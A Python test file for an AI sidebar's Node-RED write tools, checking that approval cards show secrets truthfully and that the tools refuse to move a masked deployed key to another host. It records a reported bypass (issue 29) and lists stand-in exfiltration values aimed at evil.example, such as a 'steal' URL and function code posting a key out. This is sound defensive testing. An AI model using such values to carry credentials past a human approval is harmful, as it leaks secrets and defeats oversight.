"""What an approval card shows is what is written (issue 29, items 4 and 6): a new value that looks like a secret
is shown in full with a warning on every entry point (stream, execute-tool, ``@tools:``); a secret the flows held
already stays masked and is deployed unchanged, never as the mask string; cards and pending approvals are bounded.
The scripted model calls write tools against a real Node-RED of this module's own."""

from __future__ import annotations

import json
import sqlite3
import urllib.request

import pytest

from service.nodered import write_tools
from service.nodered.redaction import REDACTED
from service.nodered.tooling import ToolFailure
from service.web.app import create_app
from tests.support.model_server import Reply
from tests.support.sse import read_events
from tests.support.writable import deployed

ALICE = {"X-Node-RED-User": "alice"}
# A key the model writes into function code: base64 that the redaction would mask.
NEW_KEY = "Zm9vYmFyLXNlY3JldC1wYXlsb2FkLXdpdGgtYS1rZXktMTIzNDU2Nzg5MA=="
DEPLOYED_TOKEN = "dep1oyed-T0ken-8c1f2e7a9b"
WARNING = "This change writes values that look like secrets, shown here in full"



def node_of(flows, node_type) -> dict:
    return next(n for n in flows if n.get("type") == node_type)


def deploy(nodered, flows) -> None:
    request = urllib.request.Request(f"{nodered.url}/flows", data=json.dumps(flows).encode(), method="POST",
                                     headers={"Content-Type": "application/json",
                                              "Node-RED-Deployment-Type": "full"})
    with urllib.request.urlopen(request, timeout=10) as answer:
        assert answer.status == 204


@pytest.fixture
def http_node(writable_nodered) -> dict:
    """An http request node with a token in its URL, deployed on the first tab."""
    flows = deployed(writable_nodered)["flows"]
    tab = node_of(flows, "tab")
    node = {"id": "c0ffee0000000001", "type": "http request", "z": tab["id"], "name": "weather", "method": "GET",
            "ret": "obj", "paytoqs": "ignore", "tls": "", "persist": False, "proxy": "", "authType": "",
            "senderr": False, "headers": [], "x": 500, "y": 400, "wires": [[]],
            "url": f"https://api.example.com/v1/now?token={DEPLOYED_TOKEN}&page=2"}
    deploy(writable_nodered, [n for n in flows if n["id"] != node["id"]] + [node])
    return node


async def chat(service, message, **body):
    response = await service.post("/ai-sidebar/stream-chat", json={"message": message, **body}, headers=ALICE)
    assert response.status == 200, await response.text()
    return await read_events(response)


async def approve(service, approval):
    response = await service.post("/ai-sidebar/resume", json={"resumeToken": approval["resumeToken"],
                                                              "decisions": [{"type": "approve"}]}, headers=ALICE)
    assert response.status == 200, await response.text()
    return await read_events(response)


def test_a_kept_mask_is_written_as_the_deployed_secret_and_a_mask_standing_for_none_is_refused():
    flows = [{"id": "t1", "type": "tab", "label": "Weather"},
             {"id": "h1", "type": "http request", "z": "t1", "name": "now", "wires": [[]],
              "url": f"https://api.example.com/v1/now?token={DEPLOYED_TOKEN}&page=2"}]
    change = write_tools.plan_update_node(flows, "h1", {"url": f"https://api.example.com/v2/now?token={REDACTED}"
                                                               "&page=3"})
    assert node_of(change.flows, "http request")["url"] == \
        f"https://api.example.com/v2/now?token={DEPLOYED_TOKEN}&page=3"
    shown = change.preview()
    assert DEPLOYED_TOKEN not in json.dumps(shown) and shown["warning"] is None
    assert shown["diff"]["changed"][0]["properties"]["url"]["after"] == \
        f"https://api.example.com/v2/now?token={REDACTED}&page=3"
    # The whole value as the model was shown it: nothing changes.
    same = write_tools.plan_update_node(flows, "h1", {"url": f"https://api.example.com/v1/now?token={REDACTED}"
                                                             "&page=2"})
    assert same.diff["changed"] == [] and node_of(same.flows, "http request")["url"] == flows[1]["url"]
    # A mask where no secret was deployed, or in a new node, is never written.
    for planned in (lambda: write_tools.plan_update_node(flows, "h1", {"name": f"key {REDACTED}"}),
                    lambda: write_tools.plan_add_nodes(flows, [{"id": "n", "type": "http request", "x": 1, "y": 1,
                                                                "url": f"https://x.example/?token={REDACTED}"}],
                                                       "t1")):
        with pytest.raises(ToolFailure) as refused:
            planned()
        assert refused.value.code == "invalid_params" and REDACTED in refused.value.message


def test_a_kept_mask_cannot_carry_the_deployed_secret_to_another_host_or_place():
    """Found by an outside try (issue 29): the card showed ``https://evil.example/steal?k=[redacted]`` and the
    deployed key went to evil.example. A mask keeps its secret only where it was: the same host inside a URL (user
    info included), the same text before it elsewhere; the new code around a key kept in place is on the card."""
    key = "Zx8Kq2Lm9Pr4Tv7Wy1Bn3Cd6FgHj"
    flows = [{"id": "t1", "type": "tab", "label": "Weather"},
             {"id": "h1", "type": "http request", "z": "t1", "wires": [[]],
              "url": f"https://api.example.com/v1/now?token={DEPLOYED_TOKEN}"},
             {"id": "h2", "type": "http request", "z": "t1", "wires": [[]],
              "url": "https://reader:P4ss!w0rd9x@db.example/records"},
             {"id": "f1", "type": "function", "z": "t1", "wires": [[]], "func": f'const key = "{key}";\nreturn msg;'}]
    moved = [("h1", "url", f"https://evil.example/steal?k={REDACTED}"),
             ("h1", "url", f"https://api.example.com.evil.example/now?token={REDACTED}"),
             ("h2", "url", f"https://reader:{REDACTED}@evil.example/records"),
             ("f1", "func", f'msg.url = "https://evil.example/collect?x={REDACTED}";\nreturn msg;'),
             ("f1", "func", f'const leak = "{REDACTED}";\nreturn msg;')]
    for node_id, name, value in moved:
        with pytest.raises(ToolFailure) as refused:
            write_tools.plan_update_node(flows, node_id, {name: value})
        assert refused.value.code == "invalid_params" and "same place" in refused.value.message, value
    # Kept where it was: another path or page on the same host, another path behind the same user info.
    kept = [("h1", "url", f"https://api.example.com/v2/now?token={REDACTED}&page=3",
             f"https://api.example.com/v2/now?token={DEPLOYED_TOKEN}&page=3"),
            ("h2", "url", f"https://reader:{REDACTED}@db.example/archive",
             "https://reader:P4ss!w0rd9x@db.example/archive"),
            ("f1", "func", f'const key = "{REDACTED}";\nmsg.topic = "now";\nreturn msg;',
             f'const key = "{key}";\nmsg.topic = "now";\nreturn msg;')]
    for node_id, name, value, written in kept:
        change = write_tools.plan_update_node(flows, node_id, {name: value})
        assert next(n for n in change.flows if n["id"] == node_id)[name] == written
        assert change.preview()["diff"]["changed"][0]["properties"][name]["after"] == value


async def test_a_new_secret_looking_value_is_shown_in_full_with_a_warning_and_deployed_as_shown(
        service, writable_nodered, model, write_settings):
    function = node_of(deployed(writable_nodered)["flows"], "function")
    code = f'const key = "{NEW_KEY}";\nreturn msg;'
    model.script(Reply(tool_calls=[{"name": "update_node", "arguments": {"node_id": function["id"],
                                                                         "properties": {"func": code}}}]),
                 Reply(text="Done."))
    approval, done = await chat(service, "put the key in the function", sessionId="k1")
    assert approval["type"] == "approval_required" and done["status"] == "awaiting_approval"
    [action] = approval["actions"]
    assert action["diff"]["changed"][0]["properties"]["func"]["after"] == code
    assert action["warning"].startswith(WARNING) and f'function "{function["name"]}": func' in action["warning"]
    # The same on execute-tool's 202 and on the @tools: trigger, in the request's language.
    executed = await service.post("/ai-sidebar/execute-tool", headers={**ALICE, "Accept-Language": "de"}, json={
        "tool": "update_node", "params": {"node_id": function["id"], "properties": {"func": code}}})
    assert executed.status == 202
    body = await executed.json()
    assert NEW_KEY in json.dumps(body["actions"][0]["diff"]) and "Geheimnisse" in body["actions"][0]["warning"]
    params = json.dumps({"node_id": function["id"], "properties": {"func": code}})
    direct = (await chat(service, f"@tools:update_node|{params}", sessionId="k2"))[0]
    assert NEW_KEY in json.dumps(direct["actions"][0]["diff"]) and direct["actions"][0]["warning"].startswith(WARNING)

    await approve(service, approval)
    assert node_of(deployed(writable_nodered)["flows"], "function")["func"] == code
    # The conversation keeps the card without the value.
    history = await (await service.get("/ai-sidebar/history/k1", headers=ALICE)).json()
    assert NEW_KEY not in json.dumps(history)
    with sqlite3.connect(write_settings.memory_db_path) as raw:
        kept = " ".join(row[0] or "" for row in raw.execute("SELECT events FROM short_term_memory"))
    assert kept and NEW_KEY not in kept


async def test_a_secret_the_flow_held_stays_masked_on_the_card_and_is_deployed_unchanged(
        service, writable_nodered, model, http_node):
    url = f"https://api.example.com/v1/now?token={REDACTED}&page=3"
    model.script(Reply(tool_calls=[{"name": "update_node", "arguments": {"node_id": http_node["id"],
                                                                         "properties": {"url": url}}}]),
                 Reply(text="Page 3 now."))
    approval, _ = await chat(service, "ask for page 3", sessionId="m1")
    assert DEPLOYED_TOKEN not in json.dumps(approval) and "warning" not in approval["actions"][0]
    assert approval["actions"][0]["diff"]["changed"][0]["properties"]["url"]["after"] == url
    await approve(service, approval)
    written = next(n for n in deployed(writable_nodered)["flows"] if n["id"] == http_node["id"])
    assert written["url"] == f"https://api.example.com/v1/now?token={DEPLOYED_TOKEN}&page=3"
    assert json.dumps(model.requests).count(DEPLOYED_TOKEN) == 0


def big_flow(total_bytes: int) -> list[dict]:
    """Function nodes whose code adds up to about ``total_bytes``."""
    count = 100
    code = "// " + "x" * (total_bytes // count) + "\nreturn msg;"
    return [{"id": f"n{i}", "type": "function", "name": f"f{i}", "func": code, "x": 100, "y": 40 * i, "wires": []}
            for i in range(count)]


async def test_a_2_mb_card_is_refused_with_413_and_nothing_is_stored(service, writable_nodered, model,
                                                                    write_settings):
    tab = node_of(deployed(writable_nodered)["flows"], "tab")
    params = {"flow_id": tab["id"], "nodes": big_flow(2 * 1024 * 1024)}
    response = await service.post("/ai-sidebar/execute-tool", json={"tool": "add_nodes", "params": params},
                                  headers=ALICE)
    assert response.status == 413
    error = (await response.json())["error"]
    assert error["code"] == "approval_too_large" and "AI_SIDEBAR_APPROVAL_MAX_BYTES" in error["message"]
    assert len(await response.read()) < 4096
    listed = await (await service.get("/ai-sidebar/approvals", headers=ALICE)).json()
    assert listed["pending"] == []
    size = sum(path.stat().st_size for path in write_settings.memory_db_path.parent.glob("memory.db*"))
    assert size < 1024 * 1024, size


async def test_pending_approvals_per_identity_are_limited_with_429(aiohttp_client, write_settings, model):
    service = await aiohttp_client(create_app(write_settings.model_copy(update={"max_pending_approvals": 2})))

    async def ask(label, headers=ALICE):
        return await service.post("/ai-sidebar/execute-tool", headers=headers,
                                  json={"tool": "create_tab", "params": {"label": label}})

    assert [(await ask(label)).status for label in ("one", "two")] == [202, 202]
    refused = await ask("three")
    assert refused.status == 429
    assert (await refused.json())["error"]["code"] == "too_many_pending_approvals"
    assert (await ask("other user's", {"X-Node-RED-User": "bob"})).status == 202
    # The chat stream says so with an error event, then done.
    events = await chat(service, '@tools:create_tab|{"label": "four"}', sessionId="p1")
    assert [e["type"] for e in events][-2:] == ["error", "done"]
    assert events[-2]["code"] == "too_many_pending_approvals"
    pending = (await (await service.get("/ai-sidebar/approvals", headers=ALICE)).json())["pending"]
    assert len(pending) == 2
